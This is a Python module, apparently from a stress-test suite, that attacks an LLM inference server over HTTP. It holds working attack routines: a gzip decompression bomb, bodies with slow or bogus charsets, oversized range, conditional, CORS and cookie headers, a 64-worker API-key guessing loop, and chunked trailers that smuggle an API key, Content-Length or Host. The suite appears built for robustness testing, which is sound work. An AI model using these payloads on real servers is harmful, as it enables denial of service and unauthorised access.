"""Attacks through headers that few clients send: encodings, conditions, filters of scrapes, keys and trailers."""

from __future__ import annotations

import gzip
import json
import random

from bench.hostile.kinds import Attack, in_turn, users
from bench.hostile.wire import Target

TEXT = "/v1/completions"
_CODECS = (
    "punycode",
    "idna",
    "zlib",
    "bz2",
    "rot13",
    "unicode_escape",
    "raw_unicode_escape",
    "utf-7",
    "undefined",
    "hex",
    "base64",
    "mbcs",
    "utf-16",
    "utf-32",
    "..",
    "\xff",
    "x" * 5000,
    "utf-8; charset=punycode",
)


async def codecs(target: Target) -> None:
    """Bodies whose media type names an encoding that takes long, or that is none."""
    body = json.dumps({"prompt": "a-" * 40_000 + "0" * 100_000}).encode()
    kinds = [
        target.head("/tokenize", len(body), headers={"Content-Type": f"{media}; charset={codec}"}) + body
        for codec in _CODECS
        for media in ("application/json", "text/plain", "application/x-www-form-urlencoded")
    ]
    await in_turn(target, kinds, 8)


async def compressed(target: Target) -> None:
    """Bodies of 100 KB that unpack to 100 MB, declared in each way."""
    bomb = gzip.compress(b"x" * (100 << 20), 9)
    ways = (
        {"Content-Encoding": "gzip"},
        {"Content-Encoding": "identity, GZIP"},
        {"Content-Encoding": "x-gzip\t"},
        {"Content-Encoding": "br"},
        {"Content-Type": "application/gzip"},
        {"Transfer-Encoding": "gzip"},
        {"Content-Encoding": "aes128gcm"},
        {"TE": "gzip"},
        {"Content-Transfer-Encoding": "base64"},
    )
    await in_turn(target, [target.head("/tokenize", len(bomb), headers=way) + bomb for way in ways], 8)


async def filters(target: Target) -> None:
    """Scrapes with thousands of filters, and lists of media types that are compared with each other."""
    names = "&".join(f"name[]=octavo_{each}" for each in range(2400))
    heads = [
        target.head(f"/metrics?{names}", 0, "GET"),
        target.head("/metrics", 0, "GET", {"Accept": "application/openmetrics-text;version=0.0.1;q=0.5," * 900}),
        target.head("/metrics", 0, "GET", {"Accept-Encoding": "gzip;q=1.0, " * 3000}),
        target.head("/metrics?" + "name%5B%5D=x&" * 4000, 0, "GET"),
    ]
    await in_turn(target, heads, 24)


async def conditions(target: Target) -> None:
    """Conditions, ranges and preflights as long as allowed, for pages that need no key."""
    headers: tuple[dict[str, str], ...] = (
        {"If-None-Match": '"x", W/' * 7000},
        {"Range": "bytes=" + ",".join(f"{n}-{n}" for n in range(0, 9000, 2))},
        {"If-Modified-Since": "Thu, " * 9000},
        {"If-Range": '"' * 50_000, "Range": "bytes=0-"},
        {"Accept-Language": "en;q=0.1," * 5000},
        {"Origin": "https://" + "a." * 20_000},
        {"Origin": "null", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "a," * 20_000},
        {"Forwarded": "for=_x;" * 7000},
        {"X-Forwarded-Prefix": "/.." * 9000, "X-Forwarded-Host": "evil"},
        {"Cookie": "a=" + '"\\' * 20_000},
        {"Host": "[::1" + "%25" * 9000},
        {"Referer": "//" * 20_000},
    )
    paths = ("/", "/openapi.json", "/docs", "/v1/models", "/playground/", "/version")
    kinds = [
        target.head(path, 0, method, header)
        for header in headers
        for path in paths
        for method in ("GET", "OPTIONS", "HEAD")
    ]
    random.Random(1).shuffle(kinds)
    await in_turn(target, kinds, 16)


async def guesses(target: Target) -> None:
    """Keys guessed in each form of authentication."""
    chance = random.Random(2)
    body = json.dumps({"prompt": "x"}).encode()
    forms = (
        "Bearer sk-{}",
        "Basic {}",
        "Digest username={}",
        "Bearer\t{}",
        "bearer {}\xe9",
        "Bearer " + "{}" * 6000,
        "{}",
    )

    async def user(number: int) -> None:
        while target.open:
            number += 1
            given = forms[number % len(forms)].replace("{}", f"{chance.getrandbits(64):x}"[:8])
            await target.raw(target.head(TEXT, len(body), headers={"Authorization": given}) + body)

    await users(64, user)


async def secret_trailers(target: Target) -> None:
    """Requests without a key whose trailers have one, another length, or another path."""
    head = target.head("/tokenize", 0, headers={"Authorization": "x"}).replace(
        b"Content-Length: 0", b"Transfer-Encoding: chunked\r\nTrailer: Authorization, Content-Length, Host"
    )
    body = b'd\r\n{"prompt": ""\r\n1\r\n}\r\n0\r\n'
    trailers = (
        f"Authorization: Bearer {target.key}\r\n",
        "Content-Length: 99\r\n",
        "Transfer-Encoding: chunked\r\n",
        "Host: y\r\nX-Api-Key: " + target.key + "\r\n",
        ": x\r\n",
        "\x00: x\r\n",
    )
    await in_turn(target, [head + body + each.encode() + b"\r\n" for each in trailers], 8)


HEADERS: dict[str, Attack] = {
    "bodies in odd encodings": codecs,
    "compressed bodies": compressed,
    "filters of scrapes": filters,
    "conditions, ranges and preflights": conditions,
    "keys guessed in every form (E)": guesses,
    "keys in trailers (E, M)": secret_trailers,
}
"""Attacks by name, as in `attacks.py`."""
